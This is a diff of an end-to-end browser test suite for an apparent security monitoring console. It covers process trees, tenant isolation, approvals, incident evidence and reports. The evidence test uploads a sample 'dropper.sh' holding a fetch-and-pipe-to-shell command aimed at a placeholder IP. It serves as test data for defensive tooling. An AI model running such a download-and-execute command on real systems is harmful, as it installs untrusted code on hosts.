@@ -1,14 +1,20 @@
 // console.test.mjs - end-to-end tests of the Vigil console in Debian's headless Chromium against a
 // real vigild: first-admin setup and login, ingest through the API and search (autocomplete, row
 // expansion, pivot, CSV export, deep link), the overview's charts, users, tenants and API tokens
-// created through the UI, audit chain verification, role-aware navigation, the dark theme, and no
+// created through the UI, audit chain verification, role-aware and grouped navigation, the dark
+// theme, a real agent's process tree, a customer viewer who never sees another tenant's data,
+// tenant settings and the provider overview, a customer approver approving an action requested
+// from an incident, incident evidence and audit history, reports run and downloaded, and no
 // Content-Security-Policy violation anywhere. Steps run in order and share one server and browser;
 // a screenshot of each main screen goes to tests/screenshots/.
 import assert from 'node:assert/strict';
+import childProcess from 'node:child_process';
+import crypto from 'node:crypto';
 import fs from 'node:fs';
+import os from 'node:os';
 import path from 'node:path';
 import { chromium } from 'playwright-core';
-import { apiLogin, consoleDir, request, startStack } from './harness.mjs';
+import { Agent, apiClient, apiLogin, consoleDir, findAgent, request, startStack } from './harness.mjs';
 
 const SHOTS = path.join(consoleDir, 'tests/screenshots');
 const ADMIN = { user: 'admin', pass: 'correct-horse-battery' };
@@ -25,8 +31,10 @@ let page;
 const cspViolations = [];
 const pageErrors = [];
 
-async function shot(name) {
-  await page.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });
+async function shot(name, p = page) {
+  // from the top: a full-page capture of a scrolled page draws the sticky bars where they stuck
+  await p.evaluate(() => window.scrollTo(0, 0));
+  await p.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });
 }
 
 async function newPage(ctx) {
@@ -66,8 +74,11 @@ step('first-admin setup, then login', async () => {
   await shot('login');
   await login(page, ADMIN);
   const nav = page.getByRole('navigation', { name: 'Main' });
-  for (const l of ['Overview', 'Search', 'Alerts', 'Incidents', 'Users', 'Tenants', 'API tokens', 'Audit log'])
+  for (const l of ['Overview', 'Search', 'Alerts', 'Incidents', 'Reports', 'Approvals', 'Users', 'Tenants', 'API tokens', 'Audit log'])
     assert.ok(await nav.getByRole('link', { name: l, exact: true }).isVisible(), `nav link ${l}`);
+  // the navigation is grouped in labelled sections
+  for (const g of ['Monitor', 'Investigate', 'Respond', 'Detect', 'Admin'])
+    await nav.getByRole('list', { name: g }).waitFor();
   // setup is done: the API says so too
   const s = await request(stack.api, 'GET', '/api/v1/setup');
   assert.equal(s.json.needed, false);
@@ -560,13 +571,408 @@ step('keyboard: the navigation is reachable with Tab and opens a screen with Ent
   await page.goto(stack.base + '/');
   await page.getByRole('heading', { name: 'Overview' }).waitFor();
   let found = false;
-  for (let i = 0; i < 8 && !found; i++) {
+  for (let i = 0; i < 14 && !found; i++) {
     await page.keyboard.press('Tab');
     found = (await page.evaluate(() => document.activeElement?.textContent)) === 'Search';
   }
   assert.ok(found, 'Tab reaches the Search link');
   await page.keyboard.press('Enter');
   await page.getByRole('heading', { name: 'Event search' }).waitFor();
+  // on a 1366×768 laptop the administrator's whole navigation fits, nothing scrolls sideways
+  await page.setViewportSize({ width: 1366, height: 768 });
+  const links = page.getByRole('navigation', { name: 'Main' }).getByRole('link');
+  assert.ok(await links.count() >= 15);
+  for (const l of await links.all()) {
+    const b = await l.boundingBox();
+    assert.ok(b && b.y + b.height <= 768 && b.x + b.width <= 1366, `${await l.textContent()} is on the screen`);
+  }
+  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= 1366), 'no horizontal scrolling');
+  await shot('laptop-search');
+  await page.setViewportSize({ width: 1400, height: 900 });
+});
+
+// ---- issue 7's remaining browser tests (after the steps that count the provider's events, since a
+// real agent adds many): a real agent's process tree, tenant isolation for a
+// customer viewer, settings and the provider overview, a customer approver approving an action,
+// incident evidence and audit history, reports ------------------------------------------------
+
+const AGENT_BIN = findAgent();
+const RUN_ID = crypto.randomBytes(4).toString('hex');
+
+/** Polls fn (async) until it returns a truthy value; throws after ms with what. */
+async function until(fn, what, ms = 30000, every = 300) {
+  const deadline = Date.now() + ms;
+  let last;
+  while (Date.now() < deadline) {
+    last = await fn();
+    if (last) return last;
+    await new Promise((r) => setTimeout(r, every));
+  }
+  throw new Error(`timed out waiting for ${what} (last: ${JSON.stringify(last)})`);
+}
+
+/** Adds a Sigma rule (YAML) through the API and waits until the engine has loaded it. */
+async function addRule(call, yaml) {
+  const r = await request(stack.api, 'POST', '/api/v1/rules', { body: yaml, headers: await call.headers({ 'Content-Type': 'application/yaml' }) });
+  assert.equal(r.status, 201, r.text);
+  const id = /^id: (\S+)$/m.exec(yaml)[1];
+  await until(async () => {
+    const l = (await call('GET', '/api/v1/rules')).json;
+    return !l.engine.pending && l.rules.some((x) => x.id === id && x.loaded);
+  }, 'the rule to load', 15000, 100);
+}
+
+/** A new browser context and page logged in as who; close with p.context().close(). */
+async function loginAs(who, landing = 'Overview') {
+  const ctx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1366, height: 768 }, acceptDownloads: true });
+  const p = await newPage(ctx);
+  await p.goto(stack.base + '/');
+  await p.getByRole('heading', { name: 'Log in to Vigil' }).waitFor();
+  await login(p, who, landing);
+  return p;
+}
+
+/** Events of a query (admin's view) over the last hour. */
+async function findEvents(call, q) {
+  const u = '/api/v1/events?' + new URLSearchParams({ q, from: new Date(Date.now() - 3600e3).toISOString(),
+    to: new Date(Date.now() + 60e3).toISOString(), limit: '200' });
+  const r = await call('GET', u);
+  assert.equal(r.status, 200, r.text);
+  return r.json.events;
+}
+
+step('the process tree renders for a real agent\'s process with its file and network events', async () => {
+  if (process.getuid?.() !== 0) {
+    console.log('     (skipped: the agent\'s eBPF sensors need root; run the suite as root)');
+    return;
+  }
+  if (!AGENT_BIN) {
+    console.log('     (skipped: no vigil-agent binary; set VIGIL_AGENT or build the vigil-agent target)');
+    return;
+  }
+  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
+  const agent = new Agent(stack, AGENT_BIN);
+  const watch = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-console-watch-'));
+  try {
+    await agent.start(call, 'default', ['--watch', watch + '/', '--no-actions']);
+    const id = await until(() => { try { return agent.identity(); } catch { return null; } }, 'the agent to enrol', 30000);
+    await until(async () => (await call('GET', `/api/v1/agents/${id}`)).json?.status === 'online', 'the agent online', 30000);
+    await until(() => agent.out.includes('sensors running'), 'the agent\'s sensors (its log says "sensors running")', 60000);
+    // a recognisable tree: bash (marker) -> bash, which writes a file in the watched directory,
+    // connects to vigild's port and runs sleep and cat. Retried while the sensors attach.
+    let marker = '';
+    let inner = null;
+    let outer = null;
+    for (let attempt = 0; attempt < 4 && !inner; attempt++) {
+      marker = `vigilcontree${RUN_ID}x${attempt}`;
+      const script = `sleep 1; echo x > ${watch}/${marker}.txt; exec 3<>/dev/tcp/127.0.0.1/${stack.port}; exec 3>&-; ` +
+        'cat /etc/hostname >/dev/null; sleep 0.2; exit 0';
+      childProcess.spawnSync('bash', ['-c', `: ${marker}; bash -c '${script}'; true`], { stdio: 'ignore' });
+      const q = `process.command_line:*${marker}* and event.category:process`;
+      try {
+        await until(async () => {
+          const evs = await findEvents(call, q);
+          outer = evs.find((e) => e.process.command_line.startsWith(`bash -c : ${marker}`)) ?? null;
+          inner = evs.find((e) => e.process.command_line.startsWith('bash -c sleep 1')) ?? null;
+          // both shells and the file and network events of the inner one arrive
+          if (!inner || !outer) return false;
+          const act = await findEvents(call, `process.entity_id:"${inner.process.entity_id}" and not event.category:process`);
+          return act.some((e) => e.event.category === 'file') && act.some((e) => e.event.category === 'network');
+        }, `the events of ${marker}`, 15000, 500);
+      } catch (e) {
+        if (attempt === 3) throw e;
+        inner = null; // e.g. the sensors attached while this tree ran: another one
+      }
+    }
+    assert.ok(outer, 'the outer shell\'s exec event');
+    const at = encodeURIComponent(inner['@timestamp']);
+    await page.goto(stack.base + `/process?entity=${inner.process.entity_id}&at=${at}`);
+    await page.getByRole('heading', { name: 'Process tree' }).waitFor();
+    const tree = page.getByRole('tree', { name: 'Process tree' });
+    // the ancestor: the outer shell with its command line
+    const anc = tree.getByRole('list', { name: 'Ancestors' });
+    await anc.getByText(`bash -c : ${marker}`, { exact: false }).waitFor();
+    // and this test's node process, started before the agent: known from its child's parent fields
+    await anc.getByText(`pid ${process.pid}`, { exact: true }).waitFor();
+    // the process itself, opened: its file and network activity
+    const actList = tree.getByRole('list', { name: `Activity of pid ${inner.process.pid}` });
+    await actList.getByText(`creation ${watch}/${marker}.txt`).waitFor();
+    await actList.getByText(new RegExp(`connection_attempted tcp .*→ 127\\.0\\.0\\.1:${stack.port}`)).waitFor();
+    // its children: sleep and cat, expandable
+    await tree.getByRole('button', { name: /^Expand sleep \(pid \d+\)/ }).first().waitFor();
+    await tree.getByRole('button', { name: /^Expand cat \(pid \d+\)/ }).click();
+    await tree.getByText('no child processes').first().waitFor();
+    await shot('process-tree-agent');
+    // focus on the ancestor: the inner shell is now its child
+    await anc.getByRole('link', { name: 'focus' }).last().click();
+    await page.waitForURL(new RegExp(`entity=${outer.process.entity_id}`));
+    await tree.getByRole('button', { name: /^Expand bash \(pid \d+\)/ }).waitFor();
+  } finally {
+    const log = await agent.stop();
+    fs.rmSync(watch, { recursive: true, force: true });
+    if (/AddressSanitizer|LeakSanitizer|runtime error:/.test(log)) throw new Error('sanitizer report in the agent log:\n' + log.slice(-4000));
+  }
+});
+
+const VIEWER = { user: 'viewer-a', pass: 'viewer-a-password' };
+const TENANT_A = 'cust-a';
+const TENANT_B = 'cust-b';
+const B_SECRET = 'host-b-secret';
+const seenB = { incident: 0, alert: 0 };
+
+step('a customer viewer sees their tenant\'s data and never another tenant\'s', async () => {
+  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
+  // a provider rule: it applies to every tenant
+  await addRule(call, ['title: Console tenant isolation marker', 'id: 3c1d9e2a-6b4f-4e8d-a1c7-5f0e9d8b7a61', 'status: test', 'level: high',
+    'logsource: {product: linux, category: process_creation}', 'detection:', '  sel:', '    CommandLine|contains: vigil-console-tenant',
+    '  condition: sel', ''].join('\n'));
+  for (const [t, name] of [[TENANT_A, 'Customer A'], [TENANT_B, 'Customer B']])
+    assert.equal((await call('POST', '/api/v1/tenants', { id: t, name, mode: 'full', retention_days: 30 })).status, 201);
+  // events in both tenants; the marker rule (provider tenant: applies to all) raises an alert in each
+  for (const [t, host] of [[TENANT_A, 'host-a-visible'], [TENANT_B, B_SECRET]]) {
+    const tok = await call('POST', '/api/v1/tokens', { name: 'ingest-' + t, role: 'ingest', tenant: t });
+    assert.ok(tok.status === 200 || tok.status === 201, tok.text);
+    const ev = { '@timestamp': new Date().toISOString(), agent: { id: crypto.randomBytes(16).toString('hex') }, host: { name: host }, event: { category: 'process', type: 'start', action: 'exec' },
+      process: { entity_id: crypto.randomBytes(16).toString('hex'), pid: 4242, name: 'curl', executable: '/usr/bin/curl',
+        command_line: `curl http://198.51.100.9/vigil-console-tenant-${t}` }, source: { ip: t === TENANT_A ? '10.9.9.1' : '10.66.66.66' },
+      message: `tenant ${t} event` };
+    const r = await request(stack.api, 'POST', '/api/v1/events', { body: JSON.stringify(ev) + '\n',
+      headers: { Authorization: `Bearer ${tok.json.token}`, 'Content-Type': 'application/x-ndjson' } });
+    assert.equal(r.json.accepted, 1, r.text);
+    const inc = await call('POST', '/api/v1/incidents', { title: `Incident of ${host}`, tenant: t, severity: 'high' });
+    assert.equal(inc.status, 201, inc.text);
+    if (t === TENANT_B) seenB.incident = inc.json.id;
+  }
+  const alertB = await until(async () => (await call('GET', `/api/v1/alerts?status=&limit=1000`)).json.alerts.find((a) => a.tenant === TENANT_B),
+    'tenant B\'s alert');
+  seenB.alert = alertB.id;
+  await until(async () => (await call('GET', '/api/v1/alerts?status=&limit=1000')).json.alerts.some((a) => a.tenant === TENANT_A), 'tenant A\'s alert');
+  const u = await call('POST', '/api/v1/users', { username: VIEWER.user, password: VIEWER.pass, role: 'customer_viewer', tenant: TENANT_A });
+  assert.equal(u.status, 201, u.text);
+
+  const p = await loginAs(VIEWER);
+  try {
+    const noB = async (where) => {
+      const text = await p.locator('body').innerText();
+      for (const bad of [B_SECRET, TENANT_B, '10.66.66.66', 'Customer B'])
+        assert.ok(!text.includes(bad), `${where} shows ${bad} of the other tenant`);
+    };
+    // the role-limited navigation: no administration, no approvals
+    const nav = p.getByRole('navigation', { name: 'Main' });
+    for (const l of ['Overview', 'Alerts', 'Incidents', 'Search', 'Agents'])
+      await nav.getByRole('link', { name: l, exact: true }).waitFor();
+    for (const l of ['Users', 'API tokens', 'Audit log', 'Notifications', 'Approvals'])
+      assert.equal(await nav.getByRole('link', { name: l, exact: true }).count(), 0, `a customer viewer must not see ${l}`);
+    // overview
+    await p.getByRole('region', { name: 'Top hosts' }).getByRole('button', { name: 'host-a-visible' }).waitFor();
+    await p.getByTestId('count-events').filter({ hasText: /^1$/ }).waitFor();
+    await noB('the overview');
+    await shot('customer-viewer', p);
+    // alerts
+    await p.goto(stack.base + '/alerts?status=all');
+    await p.getByRole('table', { name: 'Alerts' }).getByRole('cell', { name: 'host-a-visible' }).first().waitFor();
+    await noB('the alert queue');
+    // incidents
+    await p.goto(stack.base + '/incidents?status=all');
+    await p.getByRole('table', { name: 'Incidents' }).getByRole('link', { name: 'Incident of host-a-visible' }).waitFor();
+    await noB('the incident list');
+    // search: everything the viewer may search is tenant A's
+    await p.goto(stack.base + '/search?range=24h');
+    await p.getByTestId('result-count').filter({ hasText: /^1 matching event/ }).waitFor();
+    await noB('the search');
+    await p.goto(stack.base + '/search?range=24h&q=' + encodeURIComponent(`host.name:${B_SECRET}`));
+    await p.getByTestId('result-count').filter({ hasText: /^0 matching events/ }).waitFor();
+    // agents: the provider's agents (and B's) are not listed
+    await p.goto(stack.base + '/agents');
+    await p.getByRole('heading', { name: 'Agents' }).waitFor();
+    await p.getByText(/No agent has enrolled yet/).waitFor();
+    await noB('the agents list');
+    // deep links to B's objects: not found, like missing ones
+    await p.goto(stack.base + `/incident?id=${seenB.incident}`);
+    await p.getByRole('alert').filter({ hasText: /not found/i }).waitFor();
+    await noB('B\'s incident link');
+    await p.goto(stack.base + `/alert?id=${seenB.alert}`);
+    await p.getByRole('alert').filter({ hasText: /not found/i }).waitFor();
+    await noB('B\'s alert link');
+    await p.goto(stack.base + '/users');
+    await p.getByText(/may not open Users/).waitFor();
+  } finally {
+    await p.context().close();
+  }
+});
+
+const SEMI = 'cust-semi';
+const RESPONDER = { user: 'responder', pass: 'responder-password' };
+const APPROVER = { user: 'approver-semi', pass: 'approver-semi-password' };
+const semi = { incident: 0, agent: '', approved: false };
+
+step('tenant settings (mode, timeout, pre-approvals, contacts, hours) and the provider overview', async () => {
+  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
+  assert.equal((await call('POST', '/api/v1/tenants', { id: SEMI, name: 'Customer Semi', mode: 'full', retention_days: 30 })).status, 201);
+  await page.goto(stack.base + '/tenants');
+  const ov = page.getByRole('table', { name: 'Provider overview' });
+  await ov.getByTestId('overview-default').waitFor();
+  await ov.getByTestId(`overview-${SEMI}`).getByRole('cell', { name: 'full' }).waitFor();
+  await shot('provider-overview');
+  await page.getByRole('link', { name: 'Settings of Customer Semi' }).click();
+  await page.getByRole('heading', { name: `Settings of tenant ${SEMI}` }).waitFor();
+  const form = page.getByRole('form', { name: 'Tenant settings' });
+  await form.getByLabel('Mode').selectOption('semi');
+  await form.getByLabel('Approval timeout (s)').fill('1800');
+  await form.getByRole('checkbox', { name: 'collect' }).check();
+  await form.getByLabel('Time zone').fill('Europe/Berlin');
+  await form.getByLabel('Start').fill('08:00');
+  await form.getByLabel('End').fill('18:00');
+  for (const d of ['mon', 'tue', 'wed', 'thu', 'fri']) await form.getByRole('checkbox', { name: d, exact: true }).check();
+  await form.getByRole('button', { name: 'Add contact' }).click();
+  await form.getByLabel('Contact 1 name').fill('Dana Duty');
+  await form.getByLabel('Contact 1 email').fill('dana@semi.example');
+  await form.getByLabel('Contact 1 role').fill('security lead');
+  await form.getByRole('button', { name: 'Save settings' }).click();
+  await page.getByTestId('settings-saved').waitFor();
+  const s = (await call('GET', `/api/v1/tenants/${SEMI}/settings`)).json;
+  assert.equal(s.mode, 'semi');
+  assert.equal(s.approval_timeout_s, 1800);
+  assert.deepEqual(s.preapproved, ['collect']);
+  assert.equal(s.contacts[0].email, 'dana@semi.example');
+  assert.equal(s.business_hours.start, '08:00');
+  await shot('tenant-settings');
+  // a reload shows what the server stored
+  await page.reload();
+  await until(async () => (await form.getByLabel('Contact 1 name').inputValue()) === 'Dana Duty', 'the stored contact after a reload');
+});
+
+step('a customer approver approves a pending action requested from an incident', async () => {
+  if (!AGENT_BIN) {
+    console.log('     (skipped: no vigil-agent binary to enrol; set VIGIL_AGENT or build the vigil-agent target)');
+    return;
+  }
+  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
+  for (const [u, role, tenant] of [[RESPONDER, 'tier2', 'default'], [APPROVER, 'customer_approver', SEMI]]) {
+    const r = await call('POST', '/api/v1/users', { username: u.user, password: u.pass, role, tenant });
+    assert.equal(r.status, 201, r.text);
+  }
+  // a real agent of the semi-managed tenant: enrolled (no sensors needed), its actions wait queued
+  const agent = new Agent(stack, AGENT_BIN);
+  semi.agent = await agent.enrollOnly(call, SEMI);
+  await agent.stop();
+  const inc = await call('POST', '/api/v1/incidents', { title: `Semi-managed incident ${RUN_ID}`, tenant: SEMI, severity: 'high' });
+  assert.equal(inc.status, 201, inc.text);
+  semi.incident = inc.json.id;
+
+  const analyst = await loginAs(RESPONDER);
+  const approver = await loginAs(APPROVER);
+  try {
+    // the analyst asks for a live query on the host from the incident page
+    await analyst.goto(stack.base + `/incident?id=${semi.incident}`);
+    const form = analyst.getByRole('form', { name: 'Request an action' });
+    await form.getByLabel('Host', { exact: true }).selectOption(semi.agent);
+    await form.getByLabel('Action', { exact: true }).selectOption('query');
+    await form.getByLabel('Reason').fill('list the processes of the host');
+    await form.getByRole('button', { name: 'Request action' }).click();
+    const reqs = analyst.getByRole('list', { name: 'Response requests' });
+    await reqs.getByText('pending_approval').waitFor();
+    const list = (await call('GET', `/api/v1/incidents/${semi.incident}/actions`)).json.requests;
+    assert.equal(list.length, 1);
+    const id = list[0].id;
+    assert.equal(list[0].status, 'pending_approval');
+    assert.equal(list[0].action_id ?? null, null, 'nothing is queued before the approval');
+
+    // the approver finds it in the inbox: incident link, host, action, requester, time left
+    await approver.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Approvals' }).click();
+    await approver.getByRole('heading', { name: 'Approvals' }).waitFor();
+    const row = approver.getByTestId(`approval-${id}`);
+    await row.getByRole('link', { name: `#${semi.incident}` }).waitFor();
+    await row.getByText('query', { exact: true }).waitFor();
+    await row.getByText(RESPONDER.user).waitFor();
+    await approver.getByTestId(`time-left-${id}`).filter({ hasText: /^(\d+ h )?\d+ min .*left$/ }).waitFor();
+    await shot('approvals', approver);
+    await row.getByLabel(`Reason for request ${id}`).fill('approved by the customer');
+    await row.getByRole('button', { name: `Approve request ${id}` }).click();
+    await approver.getByText('No request is waiting for a decision').waitFor();
+    await approver.getByLabel('Status').selectOption('all');
+    await approver.getByTestId(`request-status-${id}`).filter({ hasText: 'queued' }).waitFor();
+    // the analyst's incident page follows (refreshed every few seconds)
+    await analyst.getByTestId(`request-status-${id}`).filter({ hasText: 'queued' }).waitFor({ timeout: 15000 });
+    await analyst.getByRole('list', { name: 'Timeline' }).getByText('response.approve').waitFor();
+    const after = (await call('GET', `/api/v1/incidents/${semi.incident}/actions`)).json.requests[0];
+    assert.equal(after.status, 'queued');
+    assert.equal(after.decided_by, APPROVER.user);
+    assert.ok(after.action_id > 0, 'the fleet action was queued');
+    semi.approved = true;
+  } finally {
+    await analyst.context().close();
+    await approver.context().close();
+  }
+});
+
+step('incident evidence (upload, SHA-256, download, custody, verify) and audit history', async () => {
+  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
+  let id = semi.incident;
+  if (!id) id = (await call('POST', '/api/v1/incidents', { title: `Evidence incident ${RUN_ID}`, tenant: SEMI })).json.id;
+  const content = Buffer.from(`suspicious script ${RUN_ID}\ncurl http://198.51.100.7/x | sh\n`);
+  const sha = crypto.createHash('sha256').update(content).digest('hex');
+  await page.goto(stack.base + `/incident?id=${id}`);
+  const form = page.getByRole('form', { name: 'Upload evidence' });
+  await form.getByLabel('File').setInputFiles({ name: 'dropper.sh', mimeType: 'text/x-shellscript', buffer: content });
+  await form.getByLabel('Description').fill('found in /tmp');
+  await form.getByRole('button', { name: 'Upload' }).click();
+  const list = page.getByRole('list', { name: 'Evidence' });
+  await list.getByText(sha).waitFor();
+  const [dl] = await Promise.all([page.waitForEvent('download'), list.getByRole('link', { name: 'Download' }).click()]);
+  const got = fs.readFileSync(await dl.path());
+  assert.equal(crypto.createHash('sha256').update(got).digest('hex'), sha);
+  await list.getByRole('button', { name: 'Custody log of dropper.sh' }).click();
+  const custody = page.getByRole('table', { name: 'Custody of dropper.sh' });
+  for (const step of ['acquired', 'attached', 'downloaded']) await custody.getByRole('cell', { name: step, exact: true }).first().waitFor();
+  await list.getByRole('button', { name: 'Verify dropper.sh' }).click();
+  await list.getByRole('status').filter({ hasText: /^Intact/ }).waitFor();
+  await custody.getByRole('cell', { name: 'verified', exact: true }).waitFor();
+  // the audit rows of this incident
+  const audit = page.getByRole('region', { name: 'Audit history' });
+  await audit.getByRole('button', { name: 'Reload' }).click();
+  const rows = audit.getByRole('table', { name: 'Audit history' });
+  await rows.getByRole('cell', { name: 'incident.create' }).waitFor();
+  for (const a of ['evidence.acquired', 'evidence.verified']) await rows.getByRole('cell', { name: a }).waitFor();
+  if (semi.approved) for (const a of ['response.request', 'response.approve']) await rows.getByRole('cell', { name: a }).waitFor();
+  await shot('incident-response');
+});
+
+step('reports: define one, run it now with progress, download the file', async () => {
+  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
+  const name = `Incidents this week ${RUN_ID}`;
+  const title = `Reported incident ${RUN_ID}`;
+  assert.equal((await call('POST', '/api/v1/incidents', { title, severity: 'medium' })).status, 201);
+  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Reports' }).click();
+  await page.getByRole('heading', { name: 'Reports' }).waitFor();
+  const form = page.getByRole('region', { name: 'Define a report' });
+  await form.getByLabel('Name').fill(name);
+  await form.getByLabel('Kind').selectOption('incidents');
+  await form.getByLabel('Format').selectOption('csv');
+  await form.getByLabel('Period').selectOption('last_7d');
+  await form.getByLabel('Schedule (UTC)').selectOption('weekly');
+  await form.getByLabel('Recipients').fill('soc@example.com');
+  await form.getByRole('button', { name: 'Add report' }).click();
+  const defs = page.getByRole('table', { name: 'Report definitions' });
+  await defs.getByRole('cell', { name, exact: true }).waitFor();
+  await defs.getByRole('cell', { name: 'weekly mon 06:00' }).waitFor();
+  await page.getByRole('button', { name: `Run ${name} now` }).click();
+  const runs = page.getByRole('table', { name: 'Report runs' });
+  const link = runs.getByRole('link', { name: new RegExp(`^Download ${name} run \\d+$`) });
+  await link.waitFor({ timeout: 30000 });
+  // the definition shows its last run once it is done
+  await defs.getByRole('row').filter({ hasText: name }).getByText('done', { exact: true }).waitFor();
+  await shot('reports');
+  const [dl] = await Promise.all([page.waitForEvent('download'), link.click()]);
+  const body = fs.readFileSync(await dl.path());
+  const def = (await call('GET', '/api/v1/reports')).json.reports.find((r) => r.name === name);
+  const run = (await call('GET', `/api/v1/report-runs?report_id=${def.id}`)).json.runs[0];
+  assert.equal(run.status, 'done');
+  assert.equal(crypto.createHash('sha256').update(body).digest('hex'), run.sha256);
+  assert.equal(body.length, run.size);
+  // the provider tenant's incident is in it, the customers' are not
+  assert.match(body.toString('utf8'), new RegExp(title));
+  assert.doesNotMatch(body.toString('utf8'), /host-b-secret|host-a-visible/);
 });
 
 step('served with the strict CSP and no violation or script error happened', async () => {
